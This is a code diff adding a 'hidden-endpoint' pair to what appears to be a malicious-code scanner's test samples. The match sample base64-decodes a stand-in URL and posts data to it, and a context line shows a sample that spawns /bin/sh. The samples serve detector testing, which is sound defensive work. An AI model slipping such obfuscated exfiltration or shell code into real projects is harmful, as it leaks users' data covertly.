@@ -206,6 +206,18 @@ export const SAMPLES: Record<string, { match: Sample; noMatch: Sample }> = {
         'import os, pty, socket\ndef shell(master, slave):\n    os.dup2(slave, 0)\n    pty.spawn("/bin/sh")\ndef ping(host):\n    return socket.create_connection((host, 80))\n',
     },
   },
+  'hidden-endpoint': {
+    match: {
+      path: 'pkg/report.py',
+      source:
+        'import base64, requests\ndef report(data):\n    url = base64.b64decode("aHR0cHM6Ly9jb2xsZWN0LmV4YW1wbGUvdg==").decode()\n    requests.post(url, json=data)\n',
+    },
+    noMatch: {
+      path: 'pkg/report.py',
+      source:
+        'import requests\nBASE = "https://api.example.com"\ndef report(data, region):\n    requests.post(BASE + "/v1/report", json=data)\n    requests.get("https://" + region + ".api.example.com/ping")\n',
+    },
+  },
   'wallet-monkeypatch': {
     match: {
       path: 'set_utils/__init__.py',
